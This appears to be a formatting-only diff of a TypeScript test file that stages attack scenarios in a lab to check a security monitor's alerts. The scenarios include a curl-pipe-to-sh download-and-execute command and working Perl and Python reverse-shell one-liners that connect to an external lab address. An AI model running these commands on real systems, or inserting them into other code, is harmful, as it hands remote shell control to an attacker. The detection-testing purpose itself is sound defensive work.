@@ -30,18 +30,28 @@ async function withServer(lab: Lab, command: string[], names: (alert: Alert) => 
   const server = fastScriptServer(lab);
   await delay(300);
   const victim = lab.run(NS.victim, command);
-  return { names, stop: async () => { await Promise.all([victim.stop(), server.stop()]); } };
+  return {
+    names,
+    stop: async () => {
+      await Promise.all([victim.stop(), server.stop()]);
+    },
+  };
 }
 
-const fedShell = (shell: string) => (alert: Alert): boolean =>
-  alert.ruleId === 'relayed-shell' && alert.process?.name === shell && alert.destination?.port === FAST_PORT && alert.evidence.kind === 'download-pipe-ended';
+const fedShell =
+  (shell: string) =>
+  (alert: Alert): boolean =>
+    alert.ruleId === 'relayed-shell' && alert.process?.name === shell && alert.destination?.port === FAST_PORT && alert.evidence.kind === 'download-pipe-ended';
 
 async function reverseShell(lab: Lab, script: string, shell: string, port: number): Promise<StagedActivity> {
   const listeners = await startAgent(lab, NS.ext, 'tcp-server', ['--name', 'shells', ...SHELL_PORTS.flatMap((p) => ['--listen', `${ADDR.ext}:${p}=shell`])]);
   const victim = lab.run(NS.victim, ['bash', '-c', script]);
   return {
-    names: (alert) => alert.techniqueId === 'T1059.004' && alert.process?.name === shell && alert.destination?.address === ADDR.ext && alert.destination.port === port,
-    stop: async () => { await Promise.all([victim.stop(), listeners.stop()]); },
+    names: (alert) =>
+      alert.techniqueId === 'T1059.004' && alert.process?.name === shell && alert.destination?.address === ADDR.ext && alert.destination.port === port,
+    stop: async () => {
+      await Promise.all([victim.stop(), listeners.stop()]);
+    },
   };
 }
 
@@ -54,7 +64,8 @@ export const SHELL_VARIANT_SCENARIOS: Scenario[] = [
     alsoTrue: ALSO_TRUE,
     needs: ['curl', 'socat'],
     windowMs: 10_000,
-    stage: (lab) => withServer(lab, ['sh', '-c', `curl -s http://${FAST_HOST}:${FAST_PORT}/i.sh | sh`], (a) => fedShell('sh')(a) && a.evidence.relayName === 'curl'),
+    stage: (lab) =>
+      withServer(lab, ['sh', '-c', `curl -s http://${FAST_HOST}:${FAST_PORT}/i.sh | sh`], (a) => fedShell('sh')(a) && a.evidence.relayName === 'curl'),
   },
   {
     id: 'wget-pipe-bash-fast-no-cmdline',
@@ -78,9 +89,13 @@ export const SHELL_VARIANT_SCENARIOS: Scenario[] = [
     alsoTrue: ALSO_TRUE,
     needs: ['perl'],
     windowMs: 12_000,
-    stage: (lab) => reverseShell(lab,
-      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${SHELL_PORTS[0]},inet_aton("${ADDR.ext}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`,
-      'sh', SHELL_PORTS[0]),
+    stage: (lab) =>
+      reverseShell(
+        lab,
+        `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${SHELL_PORTS[0]},inet_aton("${ADDR.ext}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`,
+        'sh',
+        SHELL_PORTS[0],
+      ),
   },
   {
     id: 'shell-python-subprocess',
@@ -89,9 +104,13 @@ export const SHELL_VARIANT_SCENARIOS: Scenario[] = [
     mustName: `bash wired to ${ADDR.ext}:${SHELL_PORTS[1]}`,
     alsoTrue: ALSO_TRUE,
     windowMs: 12_000,
-    stage: (lab) => reverseShell(lab,
-      `python3 -c 'import socket,subprocess;s=socket.create_connection(("${ADDR.ext}",${SHELL_PORTS[1]}));subprocess.call(["/bin/bash","-i"],stdin=s,stdout=s,stderr=s)'`,
-      'bash', SHELL_PORTS[1]),
+    stage: (lab) =>
+      reverseShell(
+        lab,
+        `python3 -c 'import socket,subprocess;s=socket.create_connection(("${ADDR.ext}",${SHELL_PORTS[1]}));subprocess.call(["/bin/bash","-i"],stdin=s,stdout=s,stderr=s)'`,
+        'bash',
+        SHELL_PORTS[1],
+      ),
   },
   {
     id: 'shell-ncat-exec',
